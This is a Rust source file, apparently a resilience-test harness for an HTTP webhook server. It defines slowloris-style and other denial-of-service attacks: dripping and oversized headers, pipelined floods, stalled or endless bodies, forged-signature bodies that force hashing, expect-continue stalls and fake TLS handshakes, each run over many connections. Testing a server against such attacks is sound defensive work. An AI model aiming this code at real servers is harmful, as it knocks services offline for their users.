//! The attacks. None knows the secret.

use std::future::Future;
use std::io;
use std::net::SocketAddr;
use std::pin::Pin;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

/// Many connections that all do the same.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) connections: usize,
    /// What is done on one connection. When it ends, another one is opened.
    act: fn(TcpStream) -> Act,
}

type Act = Pin<Box<dyn Future<Output = io::Result<()>> + Send>>;

/// How long an attacker waits before it connects again.
const PAUSE: Duration = Duration::from_millis(300);

/// The time between two bytes of a slow attacker.
const DRIP: Duration = Duration::from_millis(100);

/// The head of a request with a well-formed signature of another body, without its last line.
const FORGED: &str = "POST /lp HTTP/1.1\r\nhost: x\r\n\
                      x-liveperson-signature: sha1=qnaEr/M2QPwyNYg/gqULRhu7RWE=\r\n";

/// The largest body that is read, less one byte.
const LARGE: usize = 1024 * 1024 - 1;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: "idle", connections: 1500, act: |stream| Box::pin(wait(stream)) },
    Attack { name: "dripping-head", connections: 1500, act: |stream| Box::pin(drip_head(stream)) },
    Attack { name: "large-head", connections: 1500, act: |stream| Box::pin(large_head(stream)) },
    Attack { name: "unsigned", connections: 1500, act: |stream| Box::pin(unsigned(stream)) },
    Attack { name: "pipelined", connections: 256, act: |stream| Box::pin(pipeline(stream)) },
    Attack { name: "never-reading", connections: 512, act: |stream| Box::pin(never_read(stream)) },
    Attack { name: "stalled-bodies", connections: 64, act: |stream| Box::pin(stall(stream)) },
    Attack { name: "stalled-bodies-2", connections: 512, act: |stream| Box::pin(stall(stream)) },
    Attack { name: "dripping-bodies", connections: 512, act: |stream| Box::pin(drip_body(stream)) },
    Attack { name: "chunks", connections: 512, act: |stream| Box::pin(chunks(stream)) },
    Attack { name: "forged", connections: 64, act: |stream| Box::pin(forge(stream)) },
    Attack { name: "continue", connections: 1500, act: |stream| Box::pin(expect(stream)) },
    Attack { name: "tls", connections: 1500, act: |stream| Box::pin(handshake(stream)) },
];

/// Starts an attack. It ends when the set is dropped.
pub(crate) fn start(attack: &Attack, connections: usize, address: SocketAddr) -> JoinSet<()> {
    let mut attackers = JoinSet::new();
    for _ in 0..connections {
        let act = attack.act;
        attackers.spawn(async move {
            loop {
                if let Ok(stream) = TcpStream::connect(address).await {
                    let _ = act(stream).await;
                }
                sleep(PAUSE).await;
            }
        });
    }
    attackers
}

/// Does nothing until the connection is closed.
async fn wait(mut stream: TcpStream) -> io::Result<()> {
    while stream.read(&mut [0; 1024]).await? > 0 {}
    Ok(())
}

/// Sends a byte now and then, until the connection is closed.
async fn drip(mut stream: TcpStream) -> io::Result<()> {
    loop {
        sleep(DRIP).await;
        stream.write_all(b"x").await?;
    }
}

async fn drip_head(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(b"POST / HTTP/1.1\r\nx-").await?;
    drip(stream).await
}

async fn large_head(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(b"POST / HTTP/1.1\r\nx: ").await?;
    stream.write_all(&[b'x'; 31 * 1024]).await?;
    wait(stream).await
}

/// Sends the next request as soon as the last one is answered.
async fn unsigned(mut stream: TcpStream) -> io::Result<()> {
    loop {
        stream.write_all(b"POST /lp HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}").await?;
        if stream.read(&mut [0; 1024]).await? == 0 {
            return Ok(());
        }
    }
}

async fn pipeline(mut stream: TcpStream) -> io::Result<()> {
    let requests = "POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 2\r\n\r\n{}".repeat(64);
    stream.write_all(requests.as_bytes()).await?;
    wait(stream).await
}

async fn never_read(mut stream: TcpStream) -> io::Result<()> {
    loop {
        stream.write_all(b"GET /lp HTTP/1.1\r\nhost: x\r\n\r\n").await?;
        sleep(Duration::from_millis(5)).await;
    }
}

/// Sends nearly all of a large body, and then nothing.
async fn stall(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(format!("{FORGED}content-length: {}\r\n\r\n", LARGE + 1).as_bytes()).await?;
    stream.write_all(&vec![b'x'; LARGE]).await?;
    wait(stream).await
}

async fn drip_body(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(format!("{FORGED}content-length: {LARGE}\r\n\r\n").as_bytes()).await?;
    drip(stream).await
}

/// Sends tiny chunks without an end.
async fn chunks(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(format!("{FORGED}transfer-encoding: chunked\r\n\r\n").as_bytes()).await?;
    let chunks = "1\r\nx\r\n".repeat(100);
    loop {
        stream.write_all(chunks.as_bytes()).await?;
        sleep(Duration::from_millis(20)).await;
    }
}

/// Sends large bodies as fast as they are refused: each costs a hash.
async fn forge(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(format!("{FORGED}content-length: {LARGE}\r\n\r\n").as_bytes()).await?;
    stream.write_all(&vec![b'x'; LARGE]).await?;
    wait(stream).await
}

/// Asks whether it may send the body, and never does.
async fn expect(mut stream: TcpStream) -> io::Result<()> {
    let head = format!("{FORGED}content-length: 100\r\nexpect: 100-continue\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    wait(stream).await
}

/// Begins a TLS handshake with a server that speaks none.
async fn handshake(mut stream: TcpStream) -> io::Result<()> {
    stream.write_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03").await?;
    wait(stream).await
}
